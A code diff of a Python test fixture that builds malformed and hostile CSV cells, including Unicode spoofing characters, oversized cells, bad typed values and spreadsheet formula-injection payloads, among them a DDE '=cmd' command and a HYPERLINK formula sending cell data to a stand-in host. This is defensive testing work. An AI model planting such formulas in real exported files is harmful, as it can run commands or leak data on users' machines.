@@ -1,4 +1,5 @@
-"""Bad files: bytes, CSV, characters, types and keys, each as an edit of the small package."""
+"""Bad files: bytes, CSV and keys, each as an edit of the small package; and bad cells, characters
+and types, each in a record of its own."""
 
 from __future__ import annotations
 
@@ -11,17 +12,13 @@ from tests.hostile.small import ACTS, FIRST, NOTES, SECOND
 HEADER = "id,body,text,day,weight,place,open"
 notes = partial(swap, NOTES)
 
+Cell = tuple[str, str]
+"""A column of a note, and what is in it, as the file has it."""
+
 
 def text(cell: str) -> Edit:
     """A cell in the place of the text of the first note."""
     return swap(NOTES, "first", cell)
-
-
-def cell(column: str, value: str) -> Edit:
-    """Another value in a typed cell of the second note."""
-    cells = {"day": "2026-02-01", "weight": "2", "place": "2", "open": "false"}
-    before = ",".join(cells.values())
-    return swap(NOTES, f"second,{before}", f"second,{','.join((cells | {column: value}).values())}")
 
 
 BYTES: dict[str, Edit] = {
@@ -93,68 +90,13 @@ CSV: dict[str, Edit] = {
     "space behind a column's name": notes("id,body,text,", "id,body,text ,"),
     "invisible character in a column's name": notes("id,body,text,", "id,body,te\u200bxt,"),
     "line break in a column's name": notes("id,body,text,", 'id,body,"te\nxt",'),
-    "10 MB cell": text("x" * 10_000_000),
-    "10 MB quoted cell of lines": text('"' + "x\n" * 5_000_000 + '"'),
+    "2 MB cell": text("x" * 2_000_000),
+    "2 MB quoted cell of lines": text('"' + "x\n" * 1_000_000 + '"'),
     "cell a character too long": text("x" * 10_001),
     "100,000 cells in a record": notes(",true", ",true" + "," * 100_000),
     "a million quotes": text('"' + '""' * 1_000_000 + '"'),
     "a million quotes, one of them open": text('"' * 1_000_001),
 }
-CHARACTERS: dict[str, Edit] = {
-    "right-to-left override": text("a\u202eb"),
-    "isolate left open": text("a\u2066b"),
-    "Arabic letter mark": text("a\u061cb"),
-    "zero-width space": text("a\u200bb"),
-    "zero-width joiner": text("a\u200db"),
-    "word joiner": text("a\u2060b"),
-    "soft hyphen": text("a\u00adb"),
-    "variation selector": text("a\ufe0fb"),
-    "Hangul filler": text("a\u3164b"),
-    "hidden letter (tag)": text("a\U000e0041b"),
-    "byte order mark in a cell": text("a\ufeffb"),
-    "no-break space": text("a\u00a0b"),
-    "ideographic space": text("氣\u3000候"),
-    "line separator": text("a\u2028b"),
-    "next line (C1)": text("a\u0085b"),
-    "vertical tab": text("a\vb"),
-    "form feed": text("a\fb"),
-    "tab": text("a\tb"),
-    "colours of a terminal": text("\x1b[31ma"),
-    "bell": text("a\x07"),
-    "delete": text("a\x7f"),
-    "replacement character": text("a\ufffdb"),
-    "not a character": text("a\ufffeb"),
-    "letter and accent apart": text("A\u0308mter"),
-    "Hangul apart": text("\u1112\u1161\u11ab"),
-    "Kelvin sign": text("5 \u212a"),
-    "space first": text(" first"),
-    "space last": text("first "),
-    "a space alone": text(" "),
-    "formula": text("=1+1"),
-    "formula with a link": text('"=HYPERLINK(""http://example.org?""&A1)"'),
-    "formula with a program": text("=cmd|' /C calc'!A0"),
-    "formula with plus": text("+1+1"),
-    "formula with minus": text("-2+cmd"),
-    "formula with at": text("@SUM(1)"),
-    "formula behind a space": text(" =1+1"),
-    "formula behind a tab": text("\t=1+1"),
-    "formula in wide letters": text("＝1+1"),
-    "formula in the key": notes("n1,", "=n1,"),
-}
-TYPES: dict[str, Edit] = {
-    **{f"integer {value!r}": cell("place", value) for value in (
-        "1.5", "1e1", "１", "١", "0x10", "1_0", " 2", "two", "9" * 30, "0", "100", "-0.0",
-    )},
-    **{f"number {value!r}": cell("weight", value) for value in (
-        "NaN", "INF", "-INF", "1_0", "1e999", "１", "1.2.3", "--1", "1e", "nan", "Infinity", "9" * 400,
-    )},
-    "number with a comma": cell("weight", '"1,5"'),
-    **{f"date {value!r}": cell("day", value) for value in (
-        "2026-13-01", "2026-02-30", "01/02/2026", "2026-2-1", "20260201", "0000-01-01",
-        "10000-01-01", "2026-02-01T00:00:00", "２０２６-02-01", "2026-02", "today",
-    )},
-    **{f"boolean {value!r}": cell("open", value) for value in ("yes", "t", "2", "FALSE ", "wahr")},
-}  # fmt: skip
 KEYS: dict[str, Edit] = {
     "key twice": notes("n2,", "n1,"),
     "key empty": notes("n1,", ","),
@@ -193,11 +135,81 @@ STATED: dict[str, Edit] = {
     "a size that is none": put("few", "resources", "notes", "bytes"),
     "a byte more in the file": swap(NOTES, "first", "firsts"),
 }
+CHARACTERS: dict[str, Cell] = {
+    "right-to-left override": ("text", "a\u202eb"),
+    "isolate left open": ("text", "a\u2066b"),
+    "Arabic letter mark": ("text", "a\u061cb"),
+    "zero-width space": ("text", "a\u200bb"),
+    "zero-width joiner": ("text", "a\u200db"),
+    "word joiner": ("text", "a\u2060b"),
+    "soft hyphen": ("text", "a\u00adb"),
+    "variation selector": ("text", "a\ufe0fb"),
+    "Hangul filler": ("text", "a\u3164b"),
+    "hidden letter (tag)": ("text", "a\U000e0041b"),
+    "byte order mark in a cell": ("text", "a\ufeffb"),
+    "no-break space": ("text", "a\u00a0b"),
+    "ideographic space": ("text", "氣\u3000候"),
+    "line separator": ("text", "a\u2028b"),
+    "next line (C1)": ("text", "a\u0085b"),
+    "vertical tab": ("text", "a\vb"),
+    "form feed": ("text", "a\fb"),
+    "tab": ("text", "a\tb"),
+    "colours of a terminal": ("text", "\x1b[31ma"),
+    "bell": ("text", "a\x07"),
+    "delete": ("text", "a\x7f"),
+    "replacement character": ("text", "a\ufffdb"),
+    "not a character": ("text", "a\ufffeb"),
+    "letter and accent apart": ("text", "A\u0308mter"),
+    "Hangul apart": ("text", "\u1112\u1161\u11ab"),
+    "Kelvin sign": ("text", "5 \u212a"),
+    "space first": ("text", " first"),
+    "space last": ("text", "first "),
+    "a space alone": ("text", " "),
+    "formula": ("text", "=1+1"),
+    "formula with a link": ("text", '"=HYPERLINK(""http://example.org?""&A1)"'),
+    "formula with a program": ("text", "=cmd|' /C calc'!A0"),
+    "formula with plus": ("text", "+1+1"),
+    "formula with minus": ("text", "-2+cmd"),
+    "formula with at": ("text", "@SUM(1)"),
+    "formula behind a space": ("text", " =1+1"),
+    "formula behind a tab": ("text", "\t=1+1"),
+    "formula in wide letters": ("text", "＝1+1"),
+    "formula in the key": ("id", "=n1"),
+}
+TYPES: dict[str, Cell] = {
+    **{f"integer {value!r}": ("place", value) for value in (
+        "1.5", "1e1", "１", "١", "0x10", "1_0", " 2", "two", "9" * 30, "0", "100", "-0.0",
+    )},
+    **{f"number {value!r}": ("weight", value) for value in (
+        "NaN", "INF", "-INF", "1_0", "1e999", "１", "1.2.3", "--1", "1e", "nan", "Infinity", "9" * 400,
+    )},
+    "number with a comma": ("weight", '"1,5"'),
+    **{f"date {value!r}": ("day", value) for value in (
+        "2026-13-01", "2026-02-30", "01/02/2026", "2026-2-1", "20260201", "0000-01-01",
+        "10000-01-01", "2026-02-01T00:00:00", "２０２６-02-01", "2026-02", "today",
+    )},
+    **{f"boolean {value!r}": ("open", value) for value in ("yes", "t", "2", "FALSE ", "wahr")},
+}  # fmt: skip
 CASES = {
     "bytes": BYTES,
     "csv": CSV,
-    "characters": CHARACTERS,
-    "types": TYPES,
     "keys": KEYS,
     "stated": STATED,
 }
+CELLS = {
+    f"{group} / {name}": cell
+    for group, cells in {"characters": CHARACTERS, "types": TYPES}.items()
+    for name, cell in cells.items()
+}
+
+
+def noted() -> tuple[str, dict[str, int]]:
+    """A file of notes, each with one of the bad cells, and the line of each."""
+    good = {"body": "a", "text": "good", "day": "2026-02-01", "weight": "2", "place": "2"}
+    records = {
+        name: {"id": f"n{number:03}", **good, "open": "false", column: cell}
+        for number, (name, (column, cell)) in enumerate(CELLS.items())
+    }
+    names = sorted(records, key=lambda name: records[name]["id"])
+    lines = [HEADER, *(",".join(records[name].values()) for name in names)]
+    return "\n".join(lines) + "\n", {name: line for line, name in enumerate(names, start=2)}
